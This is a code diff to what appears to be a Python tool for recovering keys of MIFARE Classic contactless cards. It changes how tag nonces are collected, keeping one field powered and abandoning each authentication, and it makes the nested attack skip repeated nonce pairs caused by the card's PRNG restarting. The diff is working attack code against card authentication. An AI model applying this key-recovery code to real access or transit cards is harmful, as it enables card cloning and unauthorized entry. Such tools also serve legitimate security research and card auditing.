@@ -76,14 +76,15 @@ def dictionary_attack(
 
 
 def collect_nonces(link: M1Link, count: int, block: int = 3) -> list[int]:
-    """Tag nonces of ``count`` plain authentication requests (each after a field reset)."""
+    """Tag nonces of ``count`` plain authentication requests in one field, each abandoned unanswered."""
     nonces = []
+    link.power_on()
     for _ in range(count):
-        link.power_on()
         answer = link.transceive(Frame(bytes([0x60, block])))
         if answer is None or len(answer.data) != 4:
             raise AttackFailed("the card does not answer authentication requests")
         nonces.append(int.from_bytes(answer.data))
+        link.transceive(Frame(b""))  # no reader answer: the card drops the authentication
     return nonces
 
 
@@ -164,8 +165,14 @@ def nested_attack(
         raise AttackFailed("could not measure the nonce distance")
 
     survivors: np.ndarray | None = None
-    for _ in range(attempts):
+    seen: set[tuple[int, int]] = set()
+    for _ in range(attempts * 8):
+        if len(seen) == attempts:
+            break
         plain_nt, enc_nt, parities = _nested_nonce(link, uid, known_block, known_key, known_type, target)
+        if (plain_nt, enc_nt) in seen:
+            continue  # the same nonces again (PRNG restarted at power-up): they would tell nothing new
+        seen.add((plain_nt, enc_nt))
         keys = []
         for delta in range(-window, window + 1):
             if distance + delta < 0:
